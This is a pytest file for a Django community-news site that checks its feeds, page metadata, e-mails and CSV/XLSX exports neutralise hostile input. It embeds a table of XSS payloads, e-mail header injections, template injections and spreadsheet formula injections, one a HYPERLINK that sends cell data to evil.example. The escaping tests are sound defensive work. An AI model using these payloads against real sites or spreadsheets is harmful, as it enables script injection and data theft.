# ruff: noqa: S314 - parses the site's own output, not untrusted XML
"""Every output channel escapes: one table of hostile text through feeds, JSON-LD, Open Graph,
sitemaps, e-mail and the dashboard's exports.

Each fragment is typed where an editor, an approver or an administrator types: a post's title,
summary and author line, a topic's name, a unit's name, a send-back or take-down reason. Each
channel is parsed as its readers parse it (XML, HTML, JSON, MIME, CSV, XLSX) and must show the
fragment as text: never as live markup, a header or a formula, and never silently dropped.

A channel test runs the whole table and lists every fragment that got through, so a failure
reads as "n of N" like the issue that asked for it.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.core.cache import cache
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from moderation import services as workflow
from moderation.models import TakedownRequest
from orgunits.models import OrgUnit, UnitKind
from orgunits.services import unit_create
from pages import services as page_services
from pages.models import Post, Topic
from rollout.exports import csv_bytes, xlsx_bytes
from rollout.tables import HOURS, INT, PCT, TEXT, Column, Row, Table
from tests.moderation.workflow_fixtures import *  # noqa: F403 - the people fixture
from tests.moderation.workflow_fixtures import People
from tests.moderation.workflow_fixtures import make_post as make_workflow_post
from tests.pages.conftest import make_post, publish_post

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
DC = "{http://purl.org/dc/elements/1.1/}"
SM = "{http://www.sitemaps.org/schemas/sitemap/0.9}"

#: (id, text). Kept at most 29 so one subtree feed (30 items) carries them all.
FRAGMENTS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>Ngày hội"),
    ("a-javascript", '<a href="javascript:alert(1)">Bấm vào đây</a>'),
    ("javascript-url", "javascript:alert(document.cookie)"),
    ("cdata-end", "]]><script>alert(1)</script>"),
    ("cdata-block", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("script-close", "</script><script>alert(1)</script>"),
    ("comment-open", "<!--<script>alert(1)//--> Tết"),
    ("attr-break-double", '"><script>alert(1)</script>'),
    ("attr-break-single", "' onmouseover='alert(1)' x='"),
    ("attr-autofocus", '" autofocus onfocus="alert(1)'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>Tin mới'),
    ("style", "<style>body{display:none}</style>Tin"),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;"),
    ("quotes-ampersand", "Lễ “Đại đoàn kết” & ‘Tết’ \"quê\" <3 a<b>c"),
    ("header-crlf", "Tiêu đề\r\nBcc: nannhan\r\nX-Injected: 1"),
    ("header-lf", "Tiêu đề\nContent-Type: text/html\n\n<b>đậm</b>"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'),
    ("plus-cmd", "+cmd|' /C calc'!A0"),
    ("minus-formula", "-2+3"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab-formula", "\t=1+1 Tab"),
    ("cr-formula", "\r=1+1 CR"),
    ("nul", "Bản tin\x00NUL"),
    ("controls", "Điều\x07khiển\x1b[31m\x0bđỏ\x1f"),
    ("template", "{{ 7|add:7 }} {% debug %} ${7*7}"),
    ("line-separators", "Dòng\u2028mới\u2029đoạn \x85 hết"),
]
assert 25 <= len(FRAGMENTS) <= 29

# What XML 1.0, openpyxl and e-mail headers cannot carry; everything else is shown as typed.
_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def readable(text: str) -> str:
    """The visible text, compared with runs of white space as one space (XML parsers fold
    line ends, HTML folds spaces)."""
    return " ".join(_CONTROLS.sub("", text).split())


def fragments() -> list[tuple[str, str]]:
    # PostgreSQL text cannot hold NUL at all (and Django's form fields refuse it), so those
    # fragments only reach the channels on SQLite.
    if connection.vendor == "postgresql":
        return [(key, text) for key, text in FRAGMENTS if "\x00" not in text]
    return FRAGMENTS


def failures_message(channel: str, failed: list[str], total: int) -> str:
    return f"{channel}: {len(failed)} of {total} hostile fragments got through: {failed}"


# --- HTML reading ---------------------------------------------------------------------------------


class _Events(HTMLParser):
    """Everything an HTML parser sees in a string: tags, comments, declarations and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.markup: list[str] = []
        self.text: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag, attrs):
        self.markup.append(f"<{tag}>")
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._script = dict(attrs)
            self.scripts.append((self._script, ""))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.markup.append(f"</{tag}>")
        self._script = None

    def handle_comment(self, data):
        self.markup.append("<!--")

    def handle_decl(self, decl):
        self.markup.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.markup.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.markup.append("<?")

    def handle_data(self, data):
        if self._script is not None:
            attrs, _body = self.scripts[-1]
            self.scripts[-1] = (attrs, _body + data)
        else:
            self.text.append(data)


def html_events(markup: str) -> _Events:
    parser = _Events()
    parser.feed(markup)
    parser.close()
    return parser


def html_field_ok(value: str | None, expected: str) -> bool:
    """An HTML-typed field (RSS description, Atom ``type="html"``) holding plain text: no
    element, comment or declaration, and the text reads as typed."""
    events = html_events(value or "")
    return not events.markup and readable("".join(events.text)) == readable(expected)


# --- fixtures -------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _clean_cache_and_media(settings, tmp_path):
    # Public responses are cached by path: a feed kept from another test would hide this one's.
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()
    yield
    cache.clear()


@dataclass
class Hostile:
    key: str
    text: str
    unit: OrgUnit
    topic: Topic
    post: Post


@pytest.fixture
def hostile(tree) -> list[Hostile]:
    """For each fragment: a commune of Đống Đa named with it, with an active page, a topic of
    that name, and a live post whose title, summary and author line are the fragment."""
    result = []
    for index, (key, text) in enumerate(fragments()):
        unit = unit_create(name=text, kind=UnitKind.COMMUNE, parent=OrgUnit.objects.get(pk=tree.dongda.pk),
                           code=f"9{index:04d}")
        page = page_services.page_create(unit=unit, by=None, activate=True)
        topic = Topic.objects.create(name=text, slug=f"chu-de-doc-hai-{index}")
        post = make_post(page, title=text, summary=text, author_line=text, topic=topic,
                         body="<p>Nội dung bình thường.</p>")
        publish_post(post)
        result.append(Hostile(key, text, OrgUnit.objects.get(pk=unit.pk), topic, Post.objects.get(pk=post.pk)))
    return result


@pytest.fixture
def staff_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("root", "root@example.org", "x"))
    return client


# --- feeds ----------------------------------------------------------------------------------------


def _feed(client, name: str, unit: OrgUnit) -> ET.Element:
    response = client.get(reverse(name, kwargs={"unit_path": unit.path}))
    assert response.status_code == 200, (name, unit.name, response.status_code)
    return ET.fromstring(response.content)


def _rss_items(root: ET.Element) -> dict[str, ET.Element]:
    return {item.findtext("guid"): item for item in root.iter("item")}


def test_rss_items_carry_summaries_as_escaped_text_and_titles_authors_categories_as_text(client, hostile, tree):
    items = _rss_items(_feed(client, "public:feed_rss_all", tree.dongda))
    failed = []
    for h in hostile:
        item = items.get(f"post-{h.post.pk}")
        ok = item is not None and html_field_ok(item.findtext("description"), h.text) and all((
            readable(item.findtext("title") or "") == readable(h.text),
            readable(item.findtext(DC + "creator") or "") == readable(h.unit.display_name),
            [readable(c.text or "") for c in item.findall("category")] == [readable(h.text)],
        ))
        if not ok:
            failed.append(h.key)
    assert not failed, failures_message("RSS items", failed, len(hostile))


def test_atom_entries_carry_summaries_as_escaped_html_and_titles_authors_categories_as_text(client, hostile, tree):
    root = _feed(client, "public:feed_atom_all", tree.dongda)
    entries = {e.findtext(ATOM + "id"): e for e in root.findall(ATOM + "entry")}
    failed = []
    for h in hostile:
        entry = entries.get(f"post-{h.post.pk}")
        if entry is None:
            failed.append(h.key)
            continue
        title, summary = entry.find(ATOM + "title"), entry.find(ATOM + "summary")
        ok = (
            title.get("type", "text") == "text" and readable(title.text or "") == readable(h.text)
            and summary.get("type") == "html" and html_field_ok(summary.text, h.text)
            and readable(entry.findtext(f"{ATOM}author/{ATOM}name") or "") == readable(h.unit.display_name)
            and [readable(c.get("term")) for c in entry.findall(ATOM + "category")] == [readable(h.text)]
        )
        if not ok:
            failed.append(h.key)
    assert not failed, failures_message("Atom entries", failed, len(hostile))


def test_a_hostile_unit_name_in_the_feed_head_is_text(client, hostile):
    failed = []
    for h in hostile:
        rss = _feed(client, "public:feed_rss", h.unit).find("channel")
        atom = _feed(client, "public:feed_atom", h.unit)
        subtitle = atom.find(ATOM + "subtitle")
        ok = (
            readable(rss.findtext("title")) == readable(h.unit.display_name)
            and html_field_ok(rss.findtext("description"), rss_description(h.unit))
            and readable(atom.findtext(ATOM + "title")) == readable(h.unit.display_name)
            and subtitle.get("type", "text") == "text"
            and readable(subtitle.text) == readable(rss_description(h.unit))
        )
        if not ok:
            failed.append(h.key)
    assert not failed, failures_message("feed heads", failed, len(hostile))


def rss_description(unit: OrgUnit) -> str:
    return f"Tin bài chính thống của {unit.display_name} – Trang cộng đồng MTTQ Việt Nam."


# --- the post page's head: JSON-LD and Open Graph ---------------------------------------------------


def _meta(events: _Events) -> dict[str, str]:
    out = {}
    for tag, attrs in events.tags:
        if tag == "meta" and (attrs.get("property") or attrs.get("name")):
            out[attrs.get("property") or attrs.get("name")] = attrs.get("content") or ""
    return out


URL_ATTRIBUTES = ("href", "src", "action", "formaction", "poster", "data", "srcset")


def _page_problems(events: _Events) -> list[str]:
    """Live markup that no template of ours writes: event handlers, javascript: URLs, inline
    scripts other than the one JSON-LD block, frames, comments."""
    problems = []
    for tag, attrs in events.tags:
        if any(name.startswith("on") for name in attrs):
            problems.append(f"{tag} with an event handler")
        if any((attrs.get(name) or "").strip().lower().startswith("javascript:") for name in URL_ATTRIBUTES):
            problems.append(f"{tag} with a javascript: URL")
        if tag in ("iframe", "math", "style", "object", "embed"):
            problems.append(tag)
    inline = [attrs for attrs, _body in events.scripts if "src" not in attrs]
    if [a.get("type") for a in inline] != ["application/ld+json"]:
        problems.append(f"inline scripts {inline}")
    if "<!--" in events.markup:
        problems.append("a comment")
    return problems


def test_json_ld_holds_the_texts_as_data_and_nothing_breaks_out_of_it(client, hostile):
    failed = []
    for h in hostile:
        response = client.get(h.post.get_absolute_url())
        assert response.status_code == 200, h.key
        html = response.content.decode()
        events = html_events(html)
        blocks = [body for attrs, body in events.scripts if attrs.get("type") == "application/ld+json"]
        if len(blocks) != 1 or _page_problems(events):
            failed.append(h.key)
            continue
        raw = blocks[0]
        ld = json.loads(raw)
        ok = (
            not set("<>&") & set(raw)
            and readable(ld["headline"]) == readable(h.post.live_revision.title[:110])
            and readable(ld["description"]) == readable(h.text)
            and readable(ld["author"]["name"]) == readable(h.text)
            and readable(ld["publisher"]["name"]) == readable(h.unit.display_name)
            and readable(ld["articleSection"]) == readable(h.text)
        )
        if not ok:
            failed.append(h.key)
    assert not failed, failures_message("JSON-LD", failed, len(hostile))


def test_open_graph_and_twitter_tags_hold_the_texts_as_attribute_values(client, hostile):
    failed = []
    for h in hostile:
        events = html_events(client.get(h.post.get_absolute_url()).content.decode())
        meta = _meta(events)
        ok = not _page_problems(events) and all(
            readable(meta.get(name, "")) == readable(h.text)
            for name in ("og:title", "twitter:title", "og:description", "twitter:description", "article:section")
        )
        unit_events = html_events(client.get(h.unit.get_absolute_url()).content.decode())
        unit_meta = _meta(unit_events)
        ok = ok and readable(unit_meta.get("og:title", "")) == readable(h.unit.display_name)
        ok = ok and not any(a for t, a in unit_events.tags if any(n.startswith("on") for n in a))
        if not ok:
            failed.append(h.key)
    assert not failed, failures_message("Open Graph", failed, len(hostile))


def test_public_lists_hold_hostile_names_and_titles_as_text(client, hostile, tree):
    """The lists built in Python (``post_card``, ``unit_items``, ``topic_items``): the district's
    page lists every hostile commune and topic, its archive every hostile post's card (title,
    topic, unit), each as the text typed, and no markup of theirs is live."""
    district = client.get(tree.dongda.get_absolute_url()).content.decode()
    archive = [client.get(reverse("public:archive", kwargs={"unit_path": tree.dongda.path}) + f"?trang={n}")
               .content.decode() for n in (1, 2)]
    failed = []
    for markup, least in [(district, 2), *((page, 0) for page in archive)]:
        events = html_events(markup)
        if any(any(n.startswith("on") for n in a) for _t, a in events.tags) or "<!--" in events.markup \
                or any("src" not in attrs for attrs, _body in events.scripts):
            failed.append("live markup")
        texts = [readable(t) for t in events.text]
        # A commune's link and its topic (in the menu, the topic bar and the side box) on the
        # district page; on the archive pages each card's title, topic and unit.
        failed += [h.key for h in hostile if least and texts.count(readable(h.text)) < least + 2]
    cards = [readable(t) for page in archive for t in html_events(page).text]
    failed += [h.key for h in hostile if cards.count(readable(h.text)) < 3]
    assert not failed, failures_message("public lists", failed, len(hostile))


def test_search_results_hold_hostile_titles_units_and_topics_as_text(client, hostile):
    """The results built in Python (``search_results``): every hostile post found by its body
    shows its title (marked by ``highlight``), its snippet (the summary), its unit and its
    topic as the text typed, and no markup of theirs is live."""
    pages = [client.get(reverse("public:search"), {"q": "noi dung binh thuong", "trang": n}).content.decode()
             for n in (1, 2)]
    failed = []
    texts = []
    for markup in pages:
        events = html_events(markup)
        if any(any(n.startswith("on") for n in a) for _t, a in events.tags) or "<!--" in events.markup \
                or any("src" not in attrs for attrs, _body in events.scripts):
            failed.append("live markup")
        texts += [readable(t) for t in events.text]
    # The title, the snippet, the unit, and the topic after its " · ".
    joined = "\n".join(texts)
    failed += [h.key for h in hostile if joined.count(readable(h.text)) < 4]
    assert not failed, failures_message("search results", failed, len(hostile))


# --- sitemaps -------------------------------------------------------------------------------------


def test_sitemaps_list_every_hostile_unit_and_post_by_its_ascii_address(client, hostile):
    locs = []
    for name in ("/sitemap-don-vi.xml", "/sitemap-bai-viet.xml"):
        response = client.get(name)
        assert response.status_code == 200
        locs += [u.findtext(SM + "loc") for u in ET.fromstring(response.content).findall(SM + "url")]
    assert all(re.fullmatch(r"http://testserver/[A-Za-z0-9/_.~%-]*", loc) for loc in locs), locs
    for h in hostile:
        assert "http://testserver" + h.unit.get_absolute_url() in locs
        assert "http://testserver" + h.post.get_absolute_url() in locs


# --- e-mail ---------------------------------------------------------------------------------------


def titled(text: str) -> str:
    """A title the regulation lets through (10 characters at least) that holds ``text``."""
    return f"{text} – tin phường"


def _mail_problems(message, expected_texts: list[str]) -> list[str]:
    problems = []
    if _CONTROLS.search(message.subject) or "\r" in message.subject or "\n" in message.subject:
        problems.append("subject spans lines or holds control characters")
    parsed = email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)
    if set(parsed.keys()) - {"Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Subject", "From", "To",
                            "Date", "Message-ID"}:
        problems.append(f"headers {sorted(parsed.keys())}")
    if parsed.get_all("To") != message.to:
        problems.append("recipients changed")
    if not any(readable(t) in readable(str(parsed["Subject"])) for t in expected_texts):
        problems.append("subject lost the text")
    text = parsed.get_body(("plain",)).get_content()
    if not all(readable(t) in readable(text) for t in expected_texts):
        problems.append("text body lost the text")
    for part in parsed.walk():
        if part.get_content_type() == "text/html":
            events = html_events(part.get_content())
            if any(tag in ("script", "img", "iframe", "svg", "style") for tag, _a in events.tags):
                problems.append("live markup in the HTML part")
    return problems


def test_workflow_mails_carry_hostile_titles_and_reasons_as_one_line_subjects_and_plain_text(
    tree, people: People, django_capture_on_commit_callbacks
):
    failed = []
    table = fragments()
    for key, text in table:
        mail.outbox.clear()
        try:
            with django_capture_on_commit_callbacks(execute=True):
                post = make_workflow_post(tree.dongda, people.editor, title=titled(text))
                workflow.post_submit(post=post, by=people.editor)
            with django_capture_on_commit_callbacks(execute=True):
                workflow.post_send_back(post=post, by=people.approver, reason=f"Sửa lại: {text}")
            with django_capture_on_commit_callbacks(execute=True):
                workflow.post_submit(post=post, by=people.editor)
            with django_capture_on_commit_callbacks(execute=True):
                workflow.post_approve(post=post, by=people.approver)
            with django_capture_on_commit_callbacks(execute=True):
                workflow.takedown_request_record(post=post, source=TakedownRequest.Source.COMPLAINT, requester=f"Ông {text}",
                                                 reason=f"Vì {text}", by=people.approver)
            with django_capture_on_commit_callbacks(execute=True):
                workflow.post_take_down(post=Post.objects.get(pk=post.pk), by=people.approver, reason=f"Gỡ: {text}")
        except Exception as error:  # noqa: BLE001 - a refused header is one of the failures counted
            failed.append(f"{key} ({type(error).__name__})")
            continue
        subjects = sorted(m.subject.split("]")[0] + "]" for m in mail.outbox)
        # Submitted, sent back, submitted, approved, published, takedown requested, taken down.
        if len(mail.outbox) != 7:
            failed.append(f"{key} ({len(mail.outbox)} mails: {subjects})")
            continue
        problems = [p for m in mail.outbox for p in _mail_problems(m, [text])]
        if problems:
            failed.append(f"{key} {sorted(set(problems))}")
    assert not failed, failures_message("e-mails", failed, len(table))


def test_the_daily_digest_lists_each_hostile_title_on_one_line(tree, people: People,
                                                                django_capture_on_commit_callbacks):
    from moderation.models import NotificationPreference
    from moderation.notifications import send_daily_digests

    NotificationPreference.objects.update_or_create(user=people.approver, defaults={"daily_digest": True})
    table = fragments()
    for _key, text in table:
        with django_capture_on_commit_callbacks(execute=True):
            post = make_workflow_post(tree.dongda, people.editor, title=titled(text))
            workflow.post_submit(post=post, by=people.editor)
    mail.outbox.clear()
    assert send_daily_digests() == 1
    [digest] = mail.outbox
    lines = digest.body.split("\n")
    entries = [line for line in lines if line.startswith("- ")]
    # Besides one line per post, only the address where it is decided, on a line of its own.
    assert [line for line in lines if not line.startswith("- ") and not re.fullmatch(r"\s+https?://\S+", line)] == []
    assert len(entries) == len(table)
    for _key, text in table:
        assert sum(line.startswith(f"- {readable(titled(text))} (") for line in entries) == 1, text
    assert not _CONTROLS.search(digest.body)


# --- exports --------------------------------------------------------------------------------------


def neutralised(text: str) -> str:
    """A text cell as the CSV must hold it: a formula-looking start behind an apostrophe."""
    clean = _CONTROLS.sub("", text)
    return "'" + clean if clean.startswith(FORMULA_START) else clean


def test_csv_export_neutralises_formulas_in_unit_names(staff_client, hostile, tree):
    response = staff_client.get(reverse("rollout:export", args=["don-vi", "csv"]), {"unit": tree.dongda.pk})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = [row[0] for row in rows[1:]]
    failed = [h.key for h in hostile if neutralised(h.unit.name) not in names]
    assert not failed, failures_message("CSV", failed, len(hostile))
    assert not [n for n in names if n.startswith(FORMULA_START)]
    assert all(row[1].isdigit() for row in rows[1:])  # the counts stay bare numbers


def test_xlsx_export_types_every_formula_looking_name_as_quoted_text(staff_client, hostile, tree):
    response = staff_client.get(reverse("rollout:export", args=["don-vi", "xlsx"]), {"unit": tree.dongda.pk})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    cells = {c.value: c for (c,) in sheet.iter_rows(min_row=2, max_col=1)}
    failed = []
    for h in hostile:
        expected = _CONTROLS.sub("", h.unit.name)
        # XML folds a carriage return into a line feed on reading; Excel reads it the same way.
        cell = cells.get(expected.replace("\r\n", "\n").replace("\r", "\n"))
        if cell is None or cell.data_type != "s" or (expected.startswith(FORMULA_START) and not cell.quotePrefix):
            failed.append(h.key)
    assert not failed, failures_message("XLSX", failed, len(hostile))
    counts = [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert all(isinstance(v, int) for v in counts)


def test_the_list_behind_a_number_exports_hostile_names_and_parents_neutralised(staff_client, hostile, tree):
    from rollout.models import RolloutTarget

    target = RolloutTarget.objects.get(unit_kind=UnitKind.COMMUNE)
    params = {"unit": tree.dongda.pk, "which": "met", "target": target.pk}
    as_csv = staff_client.get(reverse("rollout:units"), {**params, "format": "csv"})
    assert as_csv.status_code == 200
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:]}
    failed = [h.key for h in hostile if neutralised(h.unit.name) not in names]
    assert not failed, failures_message("CSV list", failed, len(hostile))
    # The list's title holds a colon, which a sheet name may not: the file is still written.
    as_xlsx = staff_client.get(reverse("rollout:units"), {**params, "format": "xlsx"})
    assert as_xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet.title == "Cấp xã có trang cộng đồng- đơn"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    quoted = {c.value for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2) if c.quotePrefix}
    assert quoted == {_CONTROLS.sub("", h.unit.name).replace("\r", "\n") for h in hostile
                      if _CONTROLS.sub("", h.unit.name).startswith(FORMULA_START)}


NUMBERS_TABLE = Table(
    key="so", title="Số âm",
    columns=[Column("Tên", TEXT), Column("Chênh lệch", INT), Column("Tỷ lệ", PCT), Column("Giờ", HOURS)],
    rows=[
        Row(["-5", -3, -1.5, -0.25]),
        Row(["-2+3", -12000, 0.0, 2.0]),
        Row(["-1,5", 0, None, None]),
        Row(["- gạch đầu dòng", 7, 12.5, 1.0]),
    ],
)


def test_negative_numbers_stay_numbers_in_both_formats():
    rows = list(csv.reader(io.StringIO(csv_bytes(NUMBERS_TABLE).decode("utf-8-sig"), newline="")))
    assert rows[1:] == [
        ["-5", "-3", "-1,5", "-0,2"],
        ["'-2+3", "-12000", "0,0", "2,0"],
        ["-1,5", "0", "–", "–"],
        ["'- gạch đầu dòng", "7", "12,5", "1,0"],
    ]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(NUMBERS_TABLE))).active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [["-5", -3, -1.5, -0.25], ["-2+3", -12000, 0, 2], ["-1,5", 0, None, None],
                      ["- gạch đầu dòng", 7, 12.5, 1]]
    assert [sheet.cell(row=r, column=1).quotePrefix for r in range(2, 6)] == [False, True, False, True]
    assert [sheet.cell(row=r, column=2).data_type for r in range(2, 6)] == ["n"] * 4
